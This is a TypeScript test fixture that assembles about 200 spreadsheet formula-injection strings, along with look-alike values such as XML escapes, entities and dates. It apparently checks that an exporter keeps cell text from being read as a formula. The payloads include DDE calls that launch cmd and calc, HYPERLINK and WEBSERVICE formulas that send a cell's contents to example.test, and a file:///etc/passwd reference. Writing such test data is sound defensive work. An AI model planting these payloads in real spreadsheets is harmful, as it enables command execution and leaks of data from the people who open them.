/** What makes a spreadsheet program take a text for a formula, also after typing over it, in ASCII and full-width form. */
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\n=', ' =', '"=', "'=", ';=', ',=', '|=']

const bodies = [
  '1+1',
  'A1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")',
  'HYPERLINK("http://example.test/?"&B4,"点此")',
  'WEBSERVICE("http://example.test/"&B4)',
  'IMPORTXML("http://example.test","//a")',
  "'file:///etc/passwd'#$表.A1",
  'EXEC("calc")',
  '{1,2;3,4}',
  '@SUM(1)*cmd|x!A0',
  '"&<b>引号</b>"',
]

/** Texts that are something else to a careless reader or writer: escapes, entities, numbers, dates, markup. */
const lookAlikes = [
  '_x003D_1+1',
  '_x0041_',
  '_x005F_x0041_',
  '&#61;1+1',
  '&amp;=1',
  '<f>1+1</f>',
  ']]>',
  '<![CDATA[=1]]>',
  '0012',
  '1E5',
  '990102198803050014',
  '2026-11-23',
  '1/2',
  'TRUE',
  '#REF!',
  "'单引号",
  ' 前后 ',
  '张\n三',
]

/** 200 and more texts that must stay what they are. */
export const payloads: readonly string[] = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  ...lookAlikes,
]
